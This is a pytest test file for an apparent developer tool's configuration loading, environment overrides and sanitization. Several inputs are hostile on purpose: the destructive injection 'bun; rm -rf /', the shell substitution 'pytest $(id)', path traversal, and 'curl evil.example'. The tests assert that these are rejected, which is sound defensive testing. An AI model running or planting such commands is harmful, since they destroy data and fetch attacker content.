"""Unit tests for configuration loading, overrides and sanitization."""

import pytest
from pydantic import ValidationError

from autofix.config import (
    AutofixConfig,
    ExecutorConfig,
    NodeConfig,
    OutputConfig,
    PythonInstallConfig,
    find_config_path,
    load_config,
    sanitize_config,
)


class TestDefaults:
    """Tests for default configuration values."""

    def test_default_config(self):
        config = AutofixConfig()
        assert config.version == 1
        assert config.ports.default == [3000, 5173, 8000, 8080]
        assert config.ports.extra == [9229]
        assert config.node.package_manager == "auto"
        assert config.node.caches.directories == [".turbo", ".cache"]
        assert config.python.venv_path == ".venv"
        assert config.python.install.prefer == "uv"
        assert config.python.tools.format == ["ruff format", "black ."]
        assert config.checks.default == ["lint", "format", "test"]
        assert config.output.report_dir == ".autofix/reports"
        assert config.output.snapshot_dir == ".autofix/snapshots"
        assert config.telemetry.log_path == ".autofix/telemetry.jsonl"
        assert config.approval.webhook.url is None

    def test_executor_polling_defaults(self):
        executor = ExecutorConfig()
        assert executor.port_poll_interval_seconds == 0.1
        assert executor.port_poll_max_seconds == 2.0
        assert executor.port_release_cooldown_seconds == 0.15


class TestValidators:
    """Tests for field validators."""

    @pytest.mark.parametrize("pm", ["npm", "pnpm", "yarn", "auto"])
    def test_known_package_managers_kept(self, pm):
        assert NodeConfig(package_manager=pm).package_manager == pm

    @pytest.mark.parametrize("pm", ["bun; rm -rf /", "", 42])
    def test_unknown_package_manager_coerced_to_auto(self, pm):
        assert NodeConfig(package_manager=pm).package_manager == "auto"

    def test_unknown_install_preference_coerced_to_auto(self):
        assert PythonInstallConfig(prefer="conda").prefer == "auto"

    def test_invalid_verbosity_raises(self):
        with pytest.raises(ValidationError, match="verbosity"):
            OutputConfig(verbosity="loud")

    def test_verbosity_normalized(self):
        assert OutputConfig(verbosity=" Quiet ").verbosity == "quiet"

    def test_invalid_check_kinds_dropped(self):
        config = AutofixConfig(checks={"default": ["lint", "deploy", "test"]})
        assert config.checks.default == ["lint", "test"]


class TestLoadFromFile:
    """Tests for YAML loading."""

    def test_load_merges_over_defaults(self, tmp_path):
        path = tmp_path / ".autofix.yml"
        path.write_text("node:\n  package_manager: pnpm\nports:\n  default: [4000]\n")

        config = AutofixConfig.load_from_file(path)

        assert config.node.package_manager == "pnpm"
        assert config.ports.default == [4000]
        assert config.ports.extra == [9229]
        assert config.python.venv_path == ".venv"

    def test_empty_file_means_defaults(self, tmp_path):
        path = tmp_path / ".autofix.yml"
        path.write_text("")
        assert AutofixConfig.load_from_file(path) == AutofixConfig()

    def test_non_mapping_document_means_defaults(self, tmp_path):
        path = tmp_path / ".autofix.yml"
        path.write_text("- just\n- a list\n")
        assert AutofixConfig.load_from_file(path) == AutofixConfig()

    def test_missing_file_raises(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            AutofixConfig.load_from_file(tmp_path / "nope.yml")


class TestEnvOverrides:
    """Tests for AUTOFIX_* environment overrides."""

    def test_overrides_applied(self, monkeypatch):
        monkeypatch.setenv("AUTOFIX_REPORT_DIR", "out/reports")
        monkeypatch.setenv("AUTOFIX_SNAPSHOT_DIR", "out/snaps")
        monkeypatch.setenv("AUTOFIX_TELEMETRY_PATH", "out/t.jsonl")
        monkeypatch.setenv("AUTOFIX_TELEMETRY_DISABLED", "1")
        monkeypatch.setenv("AUTOFIX_APPROVAL_WEBHOOK_URL", "https://example.test/hook")
        monkeypatch.setenv("AUTOFIX_PORT_POLL_MAX_SECONDS", "0.5")
        monkeypatch.setenv("AUTOFIX_COMMAND_TIMEOUT_SECONDS", "30")

        config = AutofixConfig()
        config.apply_env_overrides()

        assert config.output.report_dir == "out/reports"
        assert config.output.snapshot_dir == "out/snaps"
        assert config.telemetry.log_path == "out/t.jsonl"
        assert config.telemetry.enabled is False
        assert config.approval.webhook.url == "https://example.test/hook"
        assert config.executor.port_poll_max_seconds == 0.5
        assert config.executor.command_timeout_seconds == 30


class TestSanitizeConfig:
    """Tests for sanitize_config."""

    def _dirty(self) -> AutofixConfig:
        config = AutofixConfig()
        config.python.tools.format = ["ruff format", "black . ; touch /tmp/x", "black ."]
        config.python.tools.lint = ["touch /tmp/x", "ruff check ."]
        config.python.tools.test = ["pytest -q", "pytest $(id)"]
        config.node.caches.directories = [".cache", "../outside", "a;b", "node_modules/.vite"]
        return config

    def test_unsafe_entries_dropped_order_kept(self):
        clean = sanitize_config(self._dirty())
        assert clean.python.tools.format == ["ruff format", "black ."]
        assert clean.python.tools.lint == ["ruff check ."]
        assert clean.python.tools.test == ["pytest -q"]
        assert clean.node.caches.directories == [".cache", "node_modules/.vite"]

    def test_input_not_modified(self):
        dirty = self._dirty()
        sanitize_config(dirty)
        assert "touch /tmp/x" in dirty.python.tools.lint

    def test_idempotent(self):
        once = sanitize_config(self._dirty())
        twice = sanitize_config(once)
        assert once == twice


class TestFindAndLoad:
    """Tests for config discovery."""

    def test_finds_config_in_parent(self, tmp_path):
        (tmp_path / ".autofix.yml").write_text("docker:\n  prune: true\n")
        nested = tmp_path / "a" / "b"
        nested.mkdir(parents=True)
        assert find_config_path(nested) == (tmp_path / ".autofix.yml").resolve()

    def test_stops_at_git_root(self, tmp_path):
        (tmp_path / ".autofix.yml").write_text("docker:\n  prune: true\n")
        repo = tmp_path / "repo"
        (repo / ".git").mkdir(parents=True)
        assert find_config_path(repo) is None

    def test_load_config_sanitizes(self, tmp_path):
        (tmp_path / ".git").mkdir()
        (tmp_path / ".autofix.yml").write_text(
            "python:\n  tools:\n    lint:\n      - 'ruff check .'\n      - 'curl evil.example'\n"
        )
        loaded = load_config(tmp_path)
        assert loaded.path == (tmp_path / ".autofix.yml").resolve()
        assert loaded.config.python.tools.lint == ["ruff check ."]

    def test_load_config_defaults_without_file(self, tmp_path):
        (tmp_path / ".git").mkdir()
        loaded = load_config(tmp_path)
        assert loaded.path is None
        assert loaded.config == sanitize_config(AutofixConfig())
